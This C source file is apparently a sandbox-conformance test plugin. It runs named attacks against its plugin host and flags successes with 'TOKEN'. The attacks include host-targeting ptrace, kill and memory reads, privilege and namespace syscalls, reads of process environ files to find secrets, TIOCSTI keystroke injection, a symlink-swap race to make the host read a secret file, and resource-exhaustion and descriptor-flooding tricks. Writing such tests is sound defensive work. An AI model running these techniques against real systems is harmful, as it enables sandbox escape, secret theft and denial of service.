// A service whose one method tries what only machine code can: cc -O1 -pthread -o attacks attacks.c. What begins with "TOKEN" got through.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#define HOST 3
static FILE *from_host;
static char aim[8192], instance[128], outcome[2048];
static long asked = 1000;

static const char *after(const char *text, const char *name) {
    const char *found = strstr(text, name);
    return found ? found + strlen(name) : "";
}
static const char *text_of(const char *name, char *room) {
    char key[64];
    snprintf(key, sizeof key, "\"%s\":\"", name);
    room[0] = 0;
    sscanf(after(aim, key), "%1023[^\"]", room);
    return room;
}
static long number_of(const char *name) {
    char key[64];
    snprintf(key, sizeof key, "\"%s\":", name);
    return atol(after(aim, key));
}
static void note(const char *form, ...) {
    size_t used = strlen(outcome);
    va_list values;
    va_start(values, form);
    vsnprintf(outcome + used, sizeof outcome - used, form, values);
    va_end(values);
}
static void send_line(const char *form, ...) {
    static char line[65536];
    va_list values;
    va_start(values, form);
    int length = vsnprintf(line, sizeof line - 1, form, values);
    va_end(values);
    line[length++] = '\n';
    for (int sent = 0, now; sent < length; sent += now)
        if ((now = write(HOST, line + sent, length - sent)) <= 0) exit(1);
}
// Asks the host and returns its answer, a line.
static const char *ask(const char *method, const char *params) {
    static char *line;
    static size_t room;
    char id[32];
    send_line("{\"jsonrpc\":\"2.0\",\"id\":%ld,\"method\":\"%s\",\"params\":{\"instanceId\":\"%s\",%s}}", ++asked, method, instance, params);
    snprintf(id, sizeof id, "\"id\":%ld,", asked);
    while (getline(&line, &room, from_host) > 0)
        if (strstr(line, id) && !strstr(line, "\"method\"")) return line;
    exit(0);
}
static void got(const char *what, long result) {
    if (result != -1) note("TOKEN %s ", what);
}

#define TRY(name, ...) got(#name, syscall(SYS_##name, __VA_ARGS__))
static char zeros[4096];

static void calls_beyond(void) {
    long host = number_of("hostPid"), victim = number_of("victimPid");
    TRY(ptrace, 16, host, 0, 0);
    TRY(ptrace, 0, 0, 0, 0);
    struct { void *at; size_t size; } piece = {zeros, 8};
    TRY(process_vm_readv, victim, &piece, 1, &piece, 1, 0);
    for (int bit = 0; bit < 8; bit++) TRY(unshare, (long[]){0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000, 0x80}[bit]);
    int own = open("/proc/self/ns/net", O_RDONLY);
    TRY(setns, own, 0);
    TRY(setns, own, 0x40000000);
    TRY(mount, "none", "/tmp", "tmpfs", 0, 0);
    TRY(mount, "/data", "/tmp", 0, 4096, 0);
    TRY(umount2, "/tmp", 2);
    TRY(pivot_root, ".", ".");
    TRY(chroot, ".");
    TRY(fsopen, "tmpfs", 0);
    TRY(open_tree, -100, "/", 1);
    TRY(fspick, -100, "/", 0);
    TRY(io_uring_setup, 4, zeros);
    TRY(bpf, 0, zeros, 72);
    TRY(perf_event_open, zeros, 0, -1, -1, 0);
    TRY(keyctl, 0, -3, 1);
    TRY(keyctl, 1, 0);
    TRY(add_key, "user", "a", "b", 1, -3);
    TRY(request_key, "user", "a", 0, -3);
    TRY(userfaultfd, 1);
    TRY(userfaultfd, 0);
    TRY(mknodat, -100, "/data/node", 0020666, 0x103);
    TRY(mknodat, -100, "/data/pipe", 0010666, 0);
    TRY(mknodat, -100, "/data/socket", 0140666, 0);
    TRY(fanotify_init, 0, 0);
    struct { unsigned size; int kind; char bytes[128]; } handle = {.size = 128};
    int mount_id;
    TRY(name_to_handle_at, -100, "/data", &handle, &mount_id, 0);
    TRY(open_by_handle_at, own, &handle, 0);
    TRY(personality, 0x40000);
    TRY(setuid, 0);
    TRY(setresuid, 0, 0, 0);
    TRY(setgroups, 0, 0);
    TRY(setfsuid, 0);
    TRY(reboot, 0xfee1dead, 672274793, 0, 0);
    TRY(kexec_load, 0, 0, 0, 0);
    TRY(init_module, zeros, 1, "");
    TRY(finit_module, own, "", 0);
    TRY(swapon, "/data", 0);
    TRY(acct, 0);
    TRY(sethostname, "x", 1);
    TRY(settimeofday, zeros, 0);
    TRY(clock_adjtime, 0, zeros);
    TRY(quotactl, 0, 0, 0, 0);
    TRY(syslog, 3, zeros, 100);
    TRY(vhangup, 0);
    TRY(memfd_create, "x", 0);
    TRY(shmget, 0, 4096, 01600);
    TRY(msgget, 0, 01600);
    TRY(semget, 0, 1, 01600);
    TRY(mq_open, "x", 0102, 0600, 0);
    TRY(mremap, zeros, 4096, 8192, 1);
    TRY(pidfd_open, host, 0);
    TRY(pidfd_getfd, 0, 0, 0);
    TRY(kcmp, 1, host, 0, 0, 0);
    TRY(process_madvise, own, zeros, 1, 0, 0);
    TRY(kill, host, 0);
    TRY(kill, victim, 9);
    TRY(tgkill, host, host, 10);
    TRY(rt_sigqueueinfo, host, 10, zeros);
    TRY(prctl, PR_SET_PDEATHSIG, 0, 0, 0, 0);
    TRY(prctl, PR_SET_MM, 1, 0, 0, 0);
    TRY(prctl, PR_CAP_AMBIENT, 2, 21, 0, 0);
    TRY(prctl, PR_SET_SECUREBITS, 0, 0, 0, 0);
#ifdef __x86_64__
    TRY(iopl, 3);
    TRY(ioperm, 0, 8, 1);
    TRY(modify_ldt, 1, zeros, 16);
    got("an x32 call", syscall(0x40000000 | 39));
#endif
    // Numbers that no kernel had when this was written.
    for (long number = 480; number < 1100; number++) {
        if (syscall(number, 0, 0, 0, 0, 0, 0) != -1) note("TOKEN call %ld ", number);
        else if (errno != ENOSYS && errno != EPERM) note("(call %ld: %d) ", number, errno);
    }
}

static void families(void) {
    for (int family = 0; family < 64; family++)
        for (int type = 1; type < 11; type++) {
            int made = socket(family, type, 0), pair[2];
            if (made != -1) note("TOKEN socket %d %d ", family, type);
            if (socketpair(family, type, 0, pair) == 0 && family != AF_UNIX) note("TOKEN pair %d %d ", family, type);
            else if (family == AF_UNIX) close(pair[0]), close(pair[1]);
        }
}

static void priority(void) {
    struct sched_param high = {1};
    TRY(setpriority, 0, 0, -5);
    TRY(sched_setscheduler, 0, 1, &high);
    TRY(ioprio_set, 1, 0, (1 << 13) | 0);
    struct rlimit more = {1ul << 40, 1ul << 40};
    for (int resource = 0; resource < 16; resource++) {
        struct rlimit now;
        getrlimit(resource, &now);
        if (now.rlim_max < 1ul << 40) got("more of a limit", setrlimit(resource, &more));
    }
    int score = open("/proc/self/oom_score_adj", O_WRONLY);
    got("spared when memory is short", score == -1 ? -1 : write(score, "-900", 4));
}

// What another user of the machine runs must not run as the plugin's, which may be the host's.
static void bits_of_identity(void) {
    struct stat found;
    int file = open("/data/plain", O_CREAT | O_WRONLY, 0700);
    chmod("/data/plain", 04755);
    fchmod(file, 06755);
    fchmodat(-100, "/data/plain", 02755, 0);
    syscall(452, -100, "/data/plain", 04755, 0);
    open("/data/made", O_CREAT | O_WRONLY, 04755);
    syscall(SYS_open, "/data/made-2", O_CREAT | O_WRONLY, 04755);
    syscall(SYS_creat, "/data/made-3", 02755);
    unsigned long how[3] = {O_CREAT | O_WRONLY, 04755, 0};
    syscall(437, -100, "/data/made-4", how, sizeof how);
    syscall(SYS_mkdir, "/data/folder", 06777);
    char *names[] = {"plain", "made", "made-2", "made-3", "made-4"}, path[64];
    for (int n = 0; n < 5; n++) {
        snprintf(path, sizeof path, "/data/%s", names[n]);
        if (stat(path, &found) == 0 && found.st_mode & 06000) note("TOKEN %s has %o ", path, found.st_mode & 07777);
    }
    got("a capability", setxattr("/data/plain", "security.capability", "\1\0\0\2\0\0\40\0\0\0\0\0\0\0\0\0\0\0\0\0", 20, 0));
    got("trusted attributes", setxattr("/data/plain", "trusted.x", "y", 1, 0));
}

// A lease lets its holder keep everybody who opens the file waiting.
static void leases(void) {
    int file = open("/data/leased", O_CREAT | O_RDWR, 0600);
    got("a lease", fcntl(file, F_SETLEASE, F_WRLCK));
}

static void foreign_descriptors(void) {
    for (int fd = 4; fd < 4096; fd++)
        if (fcntl(fd, F_GETFD) != -1) note("TOKEN descriptor %d ", fd);
    if (open("/proc/self/fd/3", O_RDWR) != -1) note("TOKEN channel ");
    int terminal = open("/dev/tty", O_RDWR);
    if (terminal != -1) note("TOKEN terminal ");
    if (open("/dev/ptmx", O_RDWR) != -1) note("TOKEN new terminal ");
    got("typed", ioctl(0, TIOCSTI, "x"));
}

// Whatever below `folder` can be opened for writing.
static void writable_below(const char *folder, int depth) {
    DIR *entries = opendir(folder);
    struct dirent *entry;
    while (entries && (entry = readdir(entries))) {
        char path[2048];
        struct stat found;
        if (entry->d_name[0] == '.' && (!entry->d_name[1] || entry->d_name[1] == '.')) continue;
        snprintf(path, sizeof path, "%s/%s", strcmp(folder, "/") ? folder : "", entry->d_name);
        if (lstat(path, &found)) continue;
        if (!strcmp(path, "/data") || !strcmp(path, "/tmp") || !strcmp(path, "/dev/null")) continue;
        if (!strcmp(folder, "/proc") && (strspn(entry->d_name, "0123456789") || strstr("self thread-self", entry->d_name))) continue;
        if (S_ISDIR(found.st_mode)) {
            if (depth > 0) writable_below(path, depth - 1);
            if (access(path, W_OK) == 0) note("TOKEN folder %s ", path);
        } else if (S_ISREG(found.st_mode) || S_ISCHR(found.st_mode) || S_ISBLK(found.st_mode)) {
            int file = open(path, O_RDWR | O_NONBLOCK);
            // Some may be opened by all, and then refuse; what is written is what is there.
            char was[64];
            ssize_t size = file == -1 ? -1 : read(file, was, sizeof was);
            if (size >= 0 && strncmp(path, "/dev/", 5) && pwrite(file, was, size, 0) != -1) note("TOKEN %s ", path);
            if (file != -1 && !strncmp(path, "/dev/", 5) && !strstr("/dev/random /dev/urandom", path)) note("TOKEN %s ", path);
            close(file);
        }
    }
    if (entries) closedir(entries);
}
static void writable(void) { writable_below("/", 5); }

// The environment of the host, or its secret, in what the kernel tells.
static void told_by_kernel(void) {
    static char buffer[1 << 16];
    const char *files[] = {"/proc/1/environ", "/proc/1/cmdline", "/proc/1/maps", "/proc/self/environ", "/proc/keys", "/proc/self/mountinfo",
        "/proc/self/cgroup", "/proc/kcore", "/proc/kallsyms", "/proc/net/unix", "/proc/locks", "/proc/timer_list", "/proc/self/maps", "/proc/sysvipc/shm", "/proc/swaps", "/proc/kmsg"};
    char host[32];
    snprintf(host, sizeof host, "/proc/%ld/environ", number_of("hostPid"));
    for (unsigned n = 0; n <= sizeof files / sizeof *files; n++) {
        int file = open(n < sizeof files / sizeof *files ? files[n] : host, O_RDONLY | O_NONBLOCK);
        ssize_t size = file == -1 ? -1 : read(file, buffer, sizeof buffer - 1);
        close(file);
        if (size <= 0) continue;
        for (ssize_t at = 0; at < size; at++) if (!buffer[at]) buffer[at] = ' ';
        buffer[size] = 0;
        if (strstr(buffer, "TOKEN-") || strstr(buffer, "HOST_SECRET") || n < 3) note("TOKEN %s ", n < 16 ? files[n] : host);
    }
}

// Descriptors are sent to the host, which must neither keep nor wait for them.
static void send_descriptors(void) {
    int given[200];
    for (int n = 0; n < 200; n++) given[n] = 1;
    char space[CMSG_SPACE(sizeof given)] = {0};
    static char line[] = "{\"jsonrpc\":\"2.0\",\"method\":\"$/unknown\",\"params\":{}}\n";
    struct iovec text = {line, sizeof line - 1};
    for (int round = 0; round < 50; round++) {
        struct msghdr message = {.msg_iov = &text, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
        struct cmsghdr *head = CMSG_FIRSTHDR(&message);
        head->cmsg_level = SOL_SOCKET, head->cmsg_type = SCM_RIGHTS, head->cmsg_len = CMSG_LEN(sizeof given);
        memcpy(CMSG_DATA(head), given, sizeof given);
        note(sendmsg(HOST, &message, 0) == -1 ? "refused " : "sent ");
    }
    send(HOST, "x", 1, MSG_OOB);
}

// The host neither hears more nor is told that it ended.
static void close_one_way(void) {
    shutdown(HOST, SHUT_WR);
    for (;;) pause();
}
static void hear_nothing(void) {
    shutdown(HOST, SHUT_RD);
    for (;;) pause();
}
static void ignore_signals(void) {
    sigset_t all;
    sigfillset(&all);
    sigprocmask(SIG_BLOCK, &all, NULL);
    for (int n = 1; n < 65; n++) signal(n, SIG_IGN);
    kill(1, SIGSTOP);
    kill(1, SIGKILL);
    kill(getppid(), SIGSTOP);
    for (;;) pause();
}
static void stop_itself(void) { raise(SIGSTOP); }

static char secret[1024];
static volatile int swapping;
// The folder "/data/turn" is by turns one of its own and a link to where the secret is.
static void *swap(void *unused) {
    while (swapping) syscall(SYS_renameat2, -100, "/data/turn", -100, "/data/link", 2);
    return unused;
}
static void race(const char *method, const char *params, const char *proof) {
    char folder[1024];
    text_of("secretFile", secret);
    strcpy(folder, secret);
    char *name = strrchr(folder, '/');
    *name++ = 0;
    mkdir("/data/turn", 0700);
    char inside[2048];
    snprintf(inside, sizeof inside, "/data/turn/%s", name);
    close(open(inside, O_CREAT | O_WRONLY, 0600));
    symlink(folder, "/data/link");
    swapping = 1;
    pthread_t swapper;
    pthread_create(&swapper, NULL, swap, NULL);
    struct timespec begun, now;
    clock_gettime(CLOCK_MONOTONIC, &begun);
    for (now = begun; now.tv_sec - begun.tv_sec < 2; clock_gettime(CLOCK_MONOTONIC, &now)) {
        const char *answer = ask(method, params);
        if (strstr(answer, proof)) { note("TOKEN %.200s", answer); break; }
    }
    swapping = 0;
    pthread_join(swapper, NULL);
}
// "SECRET=" in base64.
static void race_read(void) { race("files.read", "\"path\":\"turn/secret.env\"", "U0VDUkVU"); }
static void race_list(void) { race("files.list", "\"path\":\"turn\"", "secret.mjs"); }
static void race_info(void) { race("files.info", "\"path\":\"turn/unix.sock\"", "other"); }
static void race_write(void) { race("files.write", "\"path\":\"turn/open/written\",\"content\":{\"$bytes\":\"eA==\"}", "\"nothing\""); }

// What it leaves where the host will look.
static void leave_traps(void) {
    symlink("/etc/passwd", "/data/passwd");
    symlink(text_of("secretFile", secret), "/data/secret");
    symlink("/proc/self/environ", "/data/environ");
    symlink("/dev/zero", "/data/endless");
    symlink(".", "/data/circle");
    got("link to code", link("/plugin/plugin.toml", "/data/code"));
    got("link to a program", link("/usr/bin/env", "/data/program"));
    const char *paths[] = {"passwd", "secret", "environ", "endless", "circle/circle/secret", "code", "program", "/proc/self/fd/3", "/data/passwd"};
    for (int n = 0; n < 9; n++) {
        char params[128];
        snprintf(params, sizeof params, "\"path\":\"%s\"", paths[n]);
        const char *answer = ask("files.read", params);
        if (strstr(answer, "\"result\"")) note("TOKEN %s %.80s ", paths[n], answer);
    }
    int sparse = open("/data/sparse", O_CREAT | O_RDWR, 0600);
    signal(SIGXFSZ, SIG_IGN);
    got("a file of a terabyte", ftruncate(sparse, 1ll << 40));
    got("room for a terabyte", fallocate(sparse, 0, 0, 1ll << 40));
    char name[] = "/data/a\n\x1b[2J\xff";
    close(open(name, O_CREAT, 0600));
    chdir("/data");
    for (int depth = 0; depth < 3000; depth++) if (mkdir("d", 0700) || chdir("d")) break;
    chdir("/");

    ask("files.list", "\"path\":\"\"");
    ask("files.write", "\"path\":\"x\",\"content\":{\"$bytes\":\"eA==\"}");
}

// A folder that hides another is in memory too, and its files are counted by nobody.
static void write_over_cover(void) {
    chmod("/proc/1", 0700);
    got("a file in a cover", open("/proc/1/x", O_CREAT | O_WRONLY, 0600));
    got("a folder in a cover", mkdir("/proc/1/y", 0700));
}
static void memory_of_the_kernel(void) {
    static char value[60000];
    long bytes = 0;
    char path[64], key[32];
    for (int file = 0; file < 3000; file++) {
        snprintf(path, sizeof path, "/tmp/x%d", file);
        int made = open(path, O_CREAT | O_WRONLY, 0600);
        for (int n = 0; n < 100 && made != -1; n++) {
            snprintf(key, sizeof key, "user.%d", n);
            if (fsetxattr(made, key, value, sizeof value, 0)) break;
            bytes += sizeof value;
        }
        close(made);
        if (bytes > 300 << 20) break;
    }
    note("%s%ld MiB in attributes", bytes > 256 << 20 ? "TOKEN " : "", bytes >> 20);
}
static void *sit(void *unused) { for (;;) pause(); return unused; }
static void shared_memory(void) {
    got("shared memory", (long)mmap(0, 1 << 20, 3, MAP_SHARED | MAP_ANONYMOUS, -1, 0));
    got("a growing stack", (long)mmap(0, 1 << 20, 3, MAP_PRIVATE | MAP_ANONYMOUS | MAP_GROWSDOWN, -1, 0));
    got("a gigabyte", (long)mmap(0, 1 << 30, 3, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0));
    got("locked memory", mlockall(3));
    int threads = 0;
    pthread_t id;
    while (threads < 400 && pthread_create(&id, NULL, sit, NULL) == 0) threads++;
    if (threads > 300) note("TOKEN %d threads ", threads);
}
static void children(void) {
    long pid = syscall(SYS_clone, 17, 0, 0, 0, 0);
    if (pid == 0) _exit(0);
    got("clone", pid);
    if ((pid = vfork()) == 0) _exit(0);
    got("vfork", pid);
    for (int bit = 0; bit < 7; bit++) {
        pid = syscall(SYS_clone, 17 | (long[]){0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000}[bit], 0, 0, 0, 0);
        if (pid == 0) _exit(0);
        got("clone with a namespace", pid);
    }
    unsigned long how[8] = {0x10000000, 0, 0, 0, 17};
    pid = syscall(435, how, sizeof how);
    if (pid == 0) _exit(0);
    got("clone3", pid);
}

static const struct { const char *name; void (*attempt)(void); } ATTACKS[] = {
    {"calls-beyond", calls_beyond}, {"families", families}, {"priority", priority}, {"bits-of-identity", bits_of_identity},
    {"leases", leases}, {"foreign-descriptors", foreign_descriptors}, {"writable", writable}, {"told-by-kernel", told_by_kernel},
    {"send-descriptors", send_descriptors}, {"close-one-way", close_one_way}, {"hear-nothing", hear_nothing},
    {"ignore-signals", ignore_signals}, {"stop-itself", stop_itself}, {"race-read", race_read}, {"race-list", race_list},
    {"race-info", race_info}, {"race-write", race_write}, {"leave-traps", leave_traps}, {"memory-of-the-kernel", memory_of_the_kernel},
    {"shared-memory", shared_memory}, {"write-over-cover", write_over_cover}, {"children", children},
};

int main(void) {
    from_host = fdopen(HOST, "r");
    char *line = NULL;
    size_t room = 0;
    while (getline(&line, &room, from_host) > 0) {
        const char *method = after(line, "\"method\":\"");
        long id = atol(after(line, "\"id\":"));
        if (!*method || !id) continue;
        const char *answer = "null";
        char hello[256], plugin[64] = "";
        sscanf(after(line, "\"name\":\""), "%63[^\"]", plugin);
        snprintf(hello, sizeof hello, "{\"protocol\":1,\"contributions\":[{\"id\":\"service/%s\",\"description\":\"x\"}]}", plugin);
        if (!strncmp(method, "hello\"", 6)) answer = hello;
        if (!strncmp(method, "config.check\"", 13)) answer = "{\"issues\":[]}";
        if (!strncmp(method, "instance.open\"", 14)) answer = "{\"members\":[\"attack\"]}";
        if (!strncmp(method, "plugin.health\"", 14)) answer = "{\"health\":\"healthy\"}";
        if (strncmp(method, "call\"", 5)) {
            send_line("{\"jsonrpc\":\"2.0\",\"id\":%ld,\"result\":%s}", id, answer);
            continue;
        }
        char name[64] = "";
        snprintf(aim, sizeof aim, "%s", line);
        sscanf(after(line, "\"instanceId\":\""), "%127[^\"]", instance);
        sscanf(after(line, "\"name\":\""), "%63[^\"]", name);
        outcome[0] = 0;
        for (unsigned n = 0; n < sizeof ATTACKS / sizeof *ATTACKS; n++)
            if (!strcmp(ATTACKS[n].name, name)) ATTACKS[n].attempt();
        for (char *at = outcome; *at; at++) if (*at == '"' || *at == '\\' || *at < ' ') *at = '\'';
        send_line("{\"jsonrpc\":\"2.0\",\"id\":%ld,\"result\":{\"value\":\"%s\"}}", id, outcome);
    }
    return 0;
}
